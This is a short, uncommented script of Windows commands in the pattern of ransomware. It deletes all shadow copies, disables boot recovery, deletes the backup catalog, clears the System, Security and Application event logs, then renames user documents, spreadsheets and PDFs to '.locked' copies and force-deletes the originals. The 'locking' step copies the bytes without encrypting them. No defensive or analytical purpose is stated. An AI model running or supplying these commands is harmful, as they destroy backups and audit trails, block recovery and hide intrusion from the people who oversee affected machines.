vssadmin.exe delete shadows /all /quiet
Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance
bcdedit /set '{default}' recoveryenabled No
wbadmin delete catalog -quiet
wevtutil cl System
wevtutil cl Security
Clear-EventLog -LogName Application
$files = Get-ChildItem -Path C:\Users -Recurse -Include *.docx, *.xlsx, *.pdf
foreach ($f in $files) {
    $data = [IO.File]::ReadAllBytes($f.FullName)
    [IO.File]::WriteAllBytes("$($f.FullName).locked", $data)
    Remove-Item -Path $f.FullName -Force
}
